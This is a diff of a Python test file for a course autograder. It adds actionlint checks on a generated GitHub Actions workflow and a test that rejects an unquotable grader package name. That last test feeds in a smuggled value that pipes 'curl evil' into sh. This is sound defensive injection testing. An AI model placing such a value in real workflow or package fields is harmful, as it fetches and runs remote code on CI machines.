@@ -3,14 +3,19 @@
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import nbformat
 import pytest
 
+import grader
 from grader.bank import Bank, load_bank
+from grader.errors import GraderError
 from grader.grading import Grader, GradingOptions
-from grader.release import release
+from grader.release import release, workflow_yaml
 
 from .conftest import COURSE_LIMITS, ROOT
 
@@ -85,3 +90,29 @@ def test_the_course_notebook_filled_with_solutions_scores_full_marks(
         result = grader.grade_file(filled)
     failed = [c.check for e in result.exercises for c in e.checks if not c.passed]
     assert failed == [] and result.points == result.max_points > 100
+
+
+def test_the_autograde_workflow_passes_actionlint(material: Path) -> None:
+    workflow = material / ".github" / "workflows" / "autograde.yml"
+    actionlint = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
+    done = subprocess.run(
+        [actionlint, "-no-color", str(workflow)], capture_output=True, text=True, timeout=120
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    text = workflow.read_text()
+    assert 'grader" ci' in text and "pull_request:" in text and "--all" in text
+    assert f"tf-grader=={grader.__version__}" in text
+
+
+def test_actionlint_would_catch_a_broken_workflow(material: Path, tmp_path: Path) -> None:
+    broken = tmp_path / "broken.yml"
+    text = (material / ".github" / "workflows" / "autograde.yml").read_text()
+    broken.write_text(text.replace("steps.grader.outputs.result", "steps.grade.outputs.result"))
+    actionlint = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
+    done = subprocess.run([actionlint, "-no-color", str(broken)], capture_output=True, text=True)
+    assert done.returncode == 1 and "grade" in done.stdout
+
+
+def test_a_grader_package_that_cannot_be_quoted_is_refused() -> None:
+    with pytest.raises(GraderError, match="pip requirement"):
+        workflow_yaml('tf-grader"; curl evil | sh; "')
